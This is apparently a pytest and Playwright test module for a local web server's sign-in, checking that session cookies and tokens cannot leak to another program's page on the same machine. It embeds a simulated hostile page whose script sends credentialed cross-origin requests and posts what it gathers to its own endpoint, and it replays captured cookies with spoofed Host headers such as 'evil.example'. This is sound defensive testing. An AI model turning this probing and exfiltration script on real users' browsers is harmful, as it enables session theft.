"""What the page of an engine gets from the browser of somebody who is signed in: nothing that opens the server.

An engine may listen on any port of this machine ("a preview is at http://127.0.0.1:3000"). Browsers send cookies to every
port of a host name, so a cookie for 127.0.0.1 or localhost would reach it.
"""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect
from site_pages import FurnishedServer, be_patient, signed_in

import support.api as wire

HOSTS = ("127.0.0.1", "localhost")
_PAGE = """<!doctype html><title>preview</title><h1>A preview</h1><script>
const towards = TARGETS;
async function attack() {
  const seen = [document.cookie];
  for (const target of towards) {
    for (const mode of ["cors", "no-cors"]) {
      try {
        const answer = await fetch(`${target}/v1/runs`, { mode, credentials: "include" });
        seen.push(answer.type === "opaque" ? "" : await answer.text());
      } catch { /* refused */ }
    }
    const image = document.createElement("img");
    image.src = `${target}/static/icon.svg`;
    const frame = document.createElement("iframe");
    frame.src = `${target}/`;
    document.body.append(image, frame);
    try { new WebSocket(target.replace("http", "ws") + "/v1/runs"); } catch { /* refused */ }
  }
  await fetch("/tell", { method: "POST", body: JSON.stringify(seen) });
  document.title = "done";
}
attack();
</script>"""


class EnginePage:
    """A stand-in for a hostile engine: serves a page on a port of this machine and keeps all that it is sent."""

    def __init__(self, targets: list[str]) -> None:
        self.heads: list[str] = []
        self.told: list[str] = []
        keeper = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                keeper.heads.append(f"{self.requestline}\n{self.headers}")
                body = _PAGE.replace("TARGETS", str(targets)).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                keeper.heads.append(f"{self.requestline}\n{self.headers}")
                keeper.told.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    @property
    def cookies(self) -> list[str]:
        return re.findall(r"^cookie: (.*)$", "\n".join(self.heads), re.IGNORECASE | re.MULTILINE)

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture
def engine_page(furnished_server: FurnishedServer) -> Iterator[EnginePage]:
    port = furnished_server.port
    page = EnginePage([f"http://{host}:{port}" for host in HOSTS])
    yield page
    page.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    made = browser.new_context(locale="en-GB")
    be_patient(made)
    yield made
    made.close()


def enter(server: FurnishedServer, context: BrowserContext) -> Page:
    """Sign in through the address that the server prints."""
    page = context.new_page()
    page.goto(server.told["page"])
    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
    return page


@pytest.mark.parametrize("host", HOSTS)
def test_the_page_of_an_engine_gets_nothing_that_opens_the_server(
    furnished_server: FurnishedServer, context: BrowserContext, engine_page: EnginePage, host: str
) -> None:
    enter(furnished_server, context)
    visited = context.new_page()
    visited.goto(f"http://{host}:{engine_page.port}/")
    expect(visited).to_have_title("done")
    assert not [head for head in engine_page.heads if "askback_token" in head or "askback_session" in head]
    with wire.calling(furnished_server.url, None) as thief:
        for cookie in engine_page.cookies:
            assert thief.get("/v1/runs", headers={"cookie": cookie}).status_code == 401
        for value in re.findall(r"=([^;\s]+)", "; ".join(engine_page.cookies)):
            assert thief.get("/v1/runs", headers={"authorization": f"Bearer {value}"}).status_code in (401, 429)
    assert "items" not in "".join(engine_page.told)


def test_a_cookie_is_no_bearer_and_opens_nothing_under_another_name(
    furnished_server: FurnishedServer, context: BrowserContext
) -> None:
    page = enter(furnished_server, context)
    host = urlsplit(page.url).netloc
    (cookie,) = [each for each in context.cookies() if each["name"].startswith("askback_session")]
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Strict"
    assert cookie["name"].endswith(str(furnished_server.port))
    sent = f"{cookie['name']}={cookie['value']}"
    with wire.calling(furnished_server.url, None) as thief:
        assert thief.get("/v1/runs", headers={"cookie": sent, "host": host}).status_code == 200
        for name in (*HOSTS, "[::1]", "other.localhost", "evil.example"):
            headers = {"cookie": sent, "host": f"{name}:{furnished_server.port}"}
            assert thief.get("/v1/runs", headers=headers).status_code == 401, name
        wire.refused(thief.get("/v1/runs", headers={"authorization": f"Bearer {cookie['value']}"}), 401, "UNAUTHORIZED")
        as_cookie = {"cookie": f"{cookie['name']}={furnished_server.token}", "host": host}
        wire.refused(thief.get("/v1/runs", headers=as_cookie), 401, "UNAUTHORIZED")


def test_the_name_of_the_page_reaches_nobody_who_has_no_token(
    furnished_server: FurnishedServer, context: BrowserContext, engine_page: EnginePage
) -> None:
    page = enter(furnished_server, context)
    label = str(urlsplit(page.url).hostname).removesuffix(".localhost")
    assert len(label) >= 13
    with httpx.Client(base_url=furnished_server.url, headers={"accept": "text/html"}) as stranger:
        for path in (
            "/",
            "/enter",
            "/enter?token=wrong",
            "/enter?code=wrong",
            "/enter/reachable",
            "/healthz",
            "/nothing",
        ):
            answer = stranger.get(path)
            assert label not in answer.text + str(answer.headers), path
    # Also not when somebody who is signed in follows a link to the engine's page.
    page.evaluate(f"location.assign('http://127.0.0.1:{engine_page.port}/')")
    expect(page).to_have_title("done")
    assert label not in "".join(engine_page.heads)


def test_no_other_program_can_listen_where_the_name_of_the_page_leads(furnished_server: FurnishedServer) -> None:
    """A browser takes the name to ::1 first: whoever listened there would be sent the cookie."""
    for family, address in ((socket.AF_INET6, "::1"), (socket.AF_INET, "127.0.0.1")):
        with socket.socket(family) as engine, suppress(OSError):
            engine.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            engine.bind((address, furnished_server.port))
            engine.listen()
            pytest.fail(f"an engine listens on {address}, at the server's port")


# The way to the page.


@pytest.mark.parametrize("how", ["printed", "typed"])
def test_the_token_is_left_in_no_address_and_no_history(
    furnished_server: FurnishedServer, context: BrowserContext, how: str
) -> None:
    asked: list[str] = []
    context.on("request", lambda request: asked.append(f"{request.url} {request.headers.get('referer', '')}"))
    page = context.new_page()
    page.goto(furnished_server.told["page"] if how == "printed" else f"{furnished_server.url}/")
    if how == "typed":
        page.get_by_label("Token").fill(furnished_server.token)
        page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
    assert page.url.endswith(f".localhost:{furnished_server.port}/")
    later = asked[1:] if how == "printed" else asked
    assert not [each for each in later if furnished_server.token in each]
    page.go_back()
    assert furnished_server.token not in page.url
    assert not [each for each in context.cookies() if each["domain"] in HOSTS]


@pytest.mark.parametrize("scripts", [True, False])
def test_where_the_name_of_the_page_leads_nowhere_the_user_is_warned_and_may_stay(
    furnished_server: FurnishedServer, browser: Browser, scripts: bool
) -> None:
    context = browser.new_context(locale="en-GB", java_script_enabled=scripts)
    be_patient(context)
    # As a browser has it that does not know names below localhost.
    context.route(re.compile(r"^http://\w+\.localhost:"), lambda route: route.abort("namenotresolved"))
    page = context.new_page()
    page.goto(furnished_server.told["page"])
    expect(page.get_by_text("a page of another program on this machine could read yours")).to_be_visible()
    page.get_by_role("link", name="Continue at this address").click()
    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
    assert page.url == f"{furnished_server.url}/"
    (cookie,) = [each for each in context.cookies() if each["name"].startswith("askback_session")]
    sent = f"{cookie['name']}={cookie['value']}"
    with wire.calling(furnished_server.url, None, cookie=sent) as client:
        elsewhere = {"host": f"localhost:{furnished_server.port}"}
        wire.refused(client.get("/v1/runs", headers=elsewhere), 401, "UNAUTHORIZED")
    context.close()


@pytest.mark.long
def test_who_comes_back_from_a_name_that_leads_nowhere_may_still_stay(
    furnished_server: FurnishedServer, context: BrowserContext
) -> None:
    def nowhere(route: Route) -> None:
        """Nothing is reached; a page in place of the browser's own that says so, from which a test can go back."""
        if route.request.is_navigation_request():
            route.fulfill(status=502, body="nowhere", content_type="text/html")
        else:
            route.abort("namenotresolved")

    context.route(re.compile(r"^http://\w+\.localhost:"), nowhere)
    page = context.new_page()
    page.goto(furnished_server.told["page"])
    expect(page.get_by_role("heading", name="Almost there")).to_be_visible()
    expect(page.get_by_role("link", name="Continue at this address")).to_be_visible()
    page.get_by_role("link", name="Continue", exact=True).click()
    expect(page.get_by_text("nowhere")).to_be_visible()
    page.go_back()
    page.get_by_role("link", name="Continue at this address").click()
    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()


@pytest.mark.long
def test_a_browser_that_signs_in_again_has_one_session(
    furnished_server: FurnishedServer, context: BrowserContext
) -> None:
    def sessions() -> set[str]:
        with wire.calling(furnished_server.url, furnished_server.token) as api:
            return {each["id"] for each in api.get("/v1/sessions").json()["items"]}

    before = sessions()
    for _ in range(3):
        enter(furnished_server, context)
    assert len(sessions() - before) == 1


def test_signed_in_browsers_are_listed_and_signed_out_on_the_page(
    furnished_server: FurnishedServer, browser: Browser
) -> None:
    with (
        signed_in(furnished_server, browser, by_page=True) as site,
        signed_in(furnished_server, browser, by_page=True) as other,
    ):
        page = site.open("/")
        page.get_by_role("link", name="Signed-in browsers").click()
        own = page.locator("#sessions > li", has_text="This browser")
        expect(own).to_contain_text("Chrome, Linux")
        seen = other.open("/sessions")
        expect(seen.locator("#sessions > li", has_text="This browser")).to_be_visible()
        session = str(seen.locator("#sessions > li", has_text="This browser").locator("code").text_content())
        page.reload()
        page.locator("#sessions > li", has_text=session).get_by_role("button").click()
        expect(page.locator("#sessions > li", has_text=session)).to_have_count(0)
        expect(own).to_be_visible()
        seen.goto(f"{other.url}/runs")
        expect(seen.get_by_label("Token")).to_be_visible()
        page.get_by_role("button", name="Sign out", exact=True).first.click()
        expect(page.get_by_label("Token")).to_be_visible()


@pytest.mark.long
def test_signing_out_everywhere_is_asked_for_first(furnished_server: FurnishedServer, browser: Browser) -> None:
    with signed_in(furnished_server, browser) as site, signed_in(furnished_server, browser) as other:
        page = site.open("/sessions")
        page.get_by_role("button", name="Sign out everywhere").click()
        page.get_by_role("dialog").get_by_role("button", name="Sign out everywhere").click()
        expect(page.get_by_label("Token")).to_be_visible()
        seen = other.open("/runs")
        expect(seen.get_by_label("Token")).to_be_visible()
